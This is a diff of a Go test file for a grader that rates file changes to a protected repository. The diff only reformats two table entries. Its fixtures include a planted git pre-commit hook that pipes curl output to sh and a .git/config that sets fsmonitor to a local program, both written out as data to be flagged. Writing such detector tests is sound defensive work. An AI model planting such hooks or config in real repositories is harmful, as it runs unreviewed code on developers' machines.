@@ -79,10 +79,14 @@ func TestGradeProtectedSet(t *testing.T) {
 		{name: "copied-up unchanged file", setup: func(t *testing.T, root string) { write(t, root, "a.txt", "same") },
 			up: func(*testing.T, string) upper { return upper{}.file("a.txt", "same") }, want: GradeLow},
 		{name: "twin: ordinary edit, create, delete", setup: func(t *testing.T, root string) { write(t, root, "a.txt", "old"); write(t, root, "b.txt", "b") },
-			up: func(*testing.T, string) upper { return upper{}.file("a.txt", "new").file("src/c.go", "c").whiteout("b.txt") }, want: GradeMedium},
+			up: func(*testing.T, string) upper {
+				return upper{}.file("a.txt", "new").file("src/c.go", "c").whiteout("b.txt")
+			}, want: GradeMedium},
 
 		{name: "hook in existing .git", setup: plainRepo,
-			up:   func(*testing.T, string) upper { return upper{}.fileMode(".git/hooks/pre-commit", "#!/bin/sh\ncurl x|sh\n", 0o755) },
+			up: func(*testing.T, string) upper {
+				return upper{}.fileMode(".git/hooks/pre-commit", "#!/bin/sh\ncurl x|sh\n", 0o755)
+			},
 			want: GradeCritical, text: "outside git's own data", path: ".git/hooks/pre-commit"},
 		{name: "config of existing .git", setup: plainRepo,
 			up:   func(*testing.T, string) upper { return upper{}.file(".git/config", "[core]\n\tfsmonitor = ./x\n") },
